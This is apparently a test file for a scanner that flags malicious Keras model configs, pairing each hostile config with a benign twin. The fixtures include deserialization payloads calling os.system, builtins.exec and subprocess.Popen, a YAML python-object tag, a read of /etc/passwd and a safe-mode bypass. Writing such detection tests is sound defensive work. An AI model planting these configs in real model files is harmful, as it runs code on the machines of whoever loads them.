// Keras config engine: each malicious config next to its benign twin, judged through the real
// scan path (bare config JSON handler -> walker -> rules).
import { test } from "node:test";
import assert from "node:assert/strict";
import { scanBytes } from "../../src/scanner.js";
import { severityRank, type Finding, type Report } from "../../src/core/types.js";

const enc = (s: string) => new TextEncoder().encode(s);

async function scanJson(doc: unknown, name = "config.json"): Promise<Report> {
  return scanBytes(name, enc(JSON.stringify(doc)), { hash: false });
}

function above(r: Report, sev: "low" | "info"): Finding[] {
  return r.findings.filter((f) => severityRank(f.severity) > severityRank(sev));
}

function functional(layer: Record<string, unknown>): unknown {
  return {
    module: "keras.src.models.functional",
    class_name: "Functional",
    config: {
      name: "m",
      layers: [
        { module: "keras.layers", class_name: "InputLayer", config: { batch_shape: [null, 4], name: "in" }, registered_name: null, name: "in", inbound_nodes: [] },
        layer,
      ],
      input_layers: [["in", 0, 0]],
      output_layers: [["x", 0, 0]],
    },
    registered_name: null,
  };
}

const dense = { module: "keras.layers", class_name: "Dense", config: { name: "x", units: 2, activation: "relu", kernel_initializer: { module: "keras.initializers", class_name: "GlorotUniform", config: { seed: null }, registered_name: null } }, registered_name: null, name: "x", inbound_nodes: [] };

test("module swap to os.system is critical with the call rebuilt from inbound_nodes", async () => {
  const r = await scanJson(
    functional({ module: "os", class_name: "function", config: "system", registered_name: "system", name: "x", inbound_nodes: [{ args: ["touch /tmp/gw-canary"], kwargs: {} }] }),
  );
  const f = r.findings.find((x) => x.rule === "GW101");
  assert.ok(f, JSON.stringify(r.findings));
  assert.equal(f.severity, "critical");
  assert.deepEqual(f.capabilities, ["exec"]);
  assert.equal(f.trigger, "load");
  assert.match(f.evidence ?? "", /os\.system\("touch \/tmp\/gw-canary"\)/);
  assert.ok(f.affectedVersions?.includes("keras>=3.0,<3.9"));
  assert.equal(f.location.pointer, "/config/layers/1");
});

test("os.system named as a class cannot be built (no from_config): medium, no version claimed", async () => {
  const r = await scanJson(functional({ module: "os", class_name: "system", config: {}, registered_name: null, name: "x", inbound_nodes: [{ args: ["id"], kwargs: {} }] }));
  const f = r.findings.find((x) => x.rule === "GW102");
  assert.equal(f?.severity, "medium");
  assert.match(f?.message ?? "", /os\.system/);
  assert.equal(f?.affectedVersions, undefined);
  assert.equal(r.findings.filter((x) => x.rule === "GW101").length, 0);
});

test("benign twin: a Dense layer with built-in initializer and activation is quiet", async () => {
  const r = await scanJson(functional(dense));
  assert.deepEqual(above(r, "info"), []);
  assert.equal(r.targets[0]?.status, "scanned");
});

test("builtins function named exec is critical; a user function name is low", async () => {
  const evil = await scanJson({ module: "keras.losses", class_name: "Loss", config: {}, loss: { module: "builtins", class_name: "function", config: "exec", registered_name: "function" } });
  const f = evil.findings.find((x) => x.rule === "GW101");
  assert.equal(f?.severity, "critical");
  assert.match(f?.evidence ?? "", /builtins\.exec/);
  const benign = await scanJson({ module: "keras.losses", class_name: "Loss", config: {}, loss: { module: "builtins", class_name: "function", config: "output_zeros", registered_name: "function" } });
  assert.deepEqual(above(benign, "low"), []);
  assert.ok(benign.findings.some((x) => x.rule === "GW103" && x.severity === "low"));
});

test("Keras internals: get_file reaches the network in 3.0-3.10; a Keras layer internal is quiet", async () => {
  const r = await scanJson(functional({ module: "keras.src.utils.file_utils", class_name: "get_file", config: {}, registered_name: null, name: "x", inbound_nodes: [{ args: ["x.bin", "http://203.0.113.9/p"], kwargs: {} }] }));
  const f = r.findings.find((x) => x.rule === "GW101");
  assert.equal(f?.severity, "high");
  assert.ok(f?.capabilities.includes("network"));
  assert.deepEqual(f?.affectedVersions, ["keras>=3.0,<3.11"]);
  const twin = await scanJson(functional({ ...dense, module: "keras.src.layers.core.dense" }));
  assert.deepEqual(above(twin, "info"), []);
});

test("public plot_model stays reachable under safe mode in every Keras 3 (and tf-keras's .keras reader)", async () => {
  const r = await scanJson(functional({ module: "keras.utils", class_name: "plot_model", config: {}, registered_name: null, name: "x", inbound_nodes: [] }));
  const f = r.findings.find((x) => x.rule === "GW101");
  assert.equal(f?.severity, "high");
  assert.deepEqual(f?.affectedVersions, ["keras>=3.0", "tf-keras>=2.13"]);
});

test("safe mode switched off before a Lambda is critical (CVE-2025-9906 shape)", async () => {
  const lambda = { module: "keras.layers", class_name: "Lambda", config: { name: "l", function: { class_name: "__lambda__", config: { code: "4wEAAAAAAAAA", defaults: null, closure: null } } }, registered_name: null, name: "l", inbound_nodes: [] };
  const off = { module: "keras.src.backend.common.global_state", class_name: "set_global_attribute", config: {}, registered_name: null, name: "s", inbound_nodes: [{ args: ["safe_mode_saving", false], kwargs: {} }] };
  const r = await scanJson({ module: "keras", class_name: "Sequential", config: { name: "s", layers: [off, lambda] }, registered_name: null });
  assert.ok(r.findings.some((x) => x.rule === "GW109" && x.severity === "critical"));
  assert.ok(r.findings.some((x) => x.rule === "GW101" && x.capabilities.includes("safety-off")));
  const twin = await scanJson({ module: "keras", class_name: "Sequential", config: { name: "s", layers: [dense] }, registered_name: null });
  assert.equal(twin.findings.filter((x) => x.rule === "GW109").length, 0);
});

test("TFSMLayer loads another model (high); TF Hub KerasLayer with a URL handle (medium)", async () => {
  const r = await scanJson(functional({ module: "keras.layers", class_name: "TFSMLayer", config: { name: "x", filepath: "/tmp/other_model", call_endpoint: "serve" }, registered_name: null, name: "x", inbound_nodes: [] }));
  const f = r.findings.find((x) => x.rule === "GW105");
  assert.equal(f?.severity, "high");
  assert.match(f?.evidence ?? "", /\/tmp\/other_model/);
  assert.equal(r.findings.filter((x) => x.rule === "GW101").length, 0, "the gadget rule owns TFSMLayer");
  const hub = await scanJson({ class_name: "Sequential", config: { layers: [{ class_name: "KerasLayer", config: { name: "h", handle: "https://tfhub.dev/x/1" } }] } });
  assert.equal(hub.findings.find((x) => x.rule === "GW105")?.severity, "medium");
});

test("lookup vocabulary from /etc/passwd is high; an inline vocabulary is quiet", async () => {
  const r = await scanJson(functional({ module: "keras.layers", class_name: "StringLookup", config: { name: "x", vocabulary: "/etc/passwd" }, registered_name: null, name: "x", inbound_nodes: [] }));
  const f = r.findings.find((x) => x.rule === "GW108");
  assert.equal(f?.severity, "high");
  assert.deepEqual(f?.capabilities, ["file-read"]);
  const url = await scanJson(functional({ module: "keras.layers", class_name: "StringLookup", config: { name: "x", vocabulary: "https://example.com/v.txt" }, registered_name: null, name: "x", inbound_nodes: [] }));
  assert.deepEqual(url.findings.find((x) => x.rule === "GW108")?.capabilities, ["network"]);
  const twin = await scanJson(functional({ module: "keras.layers", class_name: "StringLookup", config: { name: "x", vocabulary: ["a", "b", "c"] }, registered_name: null, name: "x", inbound_nodes: [] }));
  assert.deepEqual(above(twin, "info"), []);
});

test("Keras 2 by-name Lambda function with module os cannot reach os.system: low only", async () => {
  const r = await scanJson({ class_name: "Sequential", config: [{ class_name: "Lambda", config: { name: "l", function: "system", function_type: "function", module: "os", arguments: {} } }] });
  assert.deepEqual(above(r, "low"), []);
  const f = r.findings.find((x) => x.rule === "GW103");
  assert.match(f?.message ?? "", /"system"/);
});

test("TFOpLambda calling io.write_file is high; math.add is quiet", async () => {
  const evil = await scanJson({ class_name: "Functional", config: { layers: [{ class_name: "TFOpLambda", config: { name: "w", function: "io.write_file" }, name: "w", inbound_nodes: [] }] } });
  const f = evil.findings.find((x) => x.rule === "GW104");
  assert.equal(f?.severity, "high");
  assert.match(f?.evidence ?? "", /tensorflow\.io\.write_file/);
  const twin = await scanJson({ class_name: "Functional", config: { layers: [{ class_name: "TFOpLambda", config: { name: "a", function: "math.add" }, name: "a", inbound_nodes: [] }] } });
  assert.deepEqual(above(twin, "info"), []);
});

test("legacy custom classes are low; tf.keras Custom>Adam optimizer is quiet", async () => {
  const r = await scanJson({ class_name: "Sequential", config: { layers: [{ class_name: "L1Distance", config: { name: "d" } }] } });
  assert.equal(r.findings.find((x) => x.rule === "GW103")?.severity, "low");
  const opt = await scanJson({ class_name: "Sequential", config: { layers: [] }, optimizer_config: { class_name: "Custom>Adam", config: { name: "Adam" } } });
  assert.deepEqual(opt.findings, []);
});

test("safe_mode: false inside arguments is reported", async () => {
  const r = await scanJson({ class_name: "Sequential", config: { layers: [{ class_name: "Lambda", config: { name: "l", function: "f", function_type: "function", arguments: { safe_mode: false } } }] } });
  const f = r.findings.find((x) => x.rule === "GW109");
  assert.equal(f?.severity, "high");
  assert.equal(f?.location.pointer, "/config/layers/0/config/arguments/safe_mode");
});

test("YAML config with a python tag is critical; a plain YAML config is walked and quiet", async () => {
  const evil = await scanBytes("m.yaml", enc('class_name: Sequential\nconfig:\n  layers:\n  - !!python/object/apply:os.system ["touch /tmp/x"]\nkeras_version: 2.4.0\n'), { hash: false });
  assert.equal(evil.targets[0]?.format, "keras-yaml");
  const f = evil.findings.find((x) => x.rule === "GW110");
  assert.equal(f?.severity, "critical");
  assert.match(f?.evidence ?? "", /os\.system/);
  const twin = await scanBytes("m.yaml", enc("class_name: Sequential\nconfig:\n  layers:\n  - class_name: Dense\n    config: {units: 2, name: d}\nkeras_version: 2.4.0\n"), { hash: false });
  assert.deepEqual(twin.findings, []);
  const sneaky = await scanBytes("m.yaml", enc("class_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config: {function: system, function_type: function, module: os}\nkeras_version: 2.4.0\n"), { hash: false });
  assert.deepEqual(above(sneaky, "low"), []);
});

test("every finding carries a JSON pointer and a trigger", async () => {
  const r = await scanJson(functional({ module: "subprocess", class_name: "Popen", config: {}, registered_name: null, name: "x", inbound_nodes: [{ args: [["sh", "-c", "id"]], kwargs: {} }] }));
  assert.ok(r.findings.length > 0);
  for (const f of r.findings) {
    assert.ok(f.location.pointer?.startsWith("/"), JSON.stringify(f));
    assert.ok(["load", "inference", "training", "unknown", "none"].includes(f.trigger));
  }
});
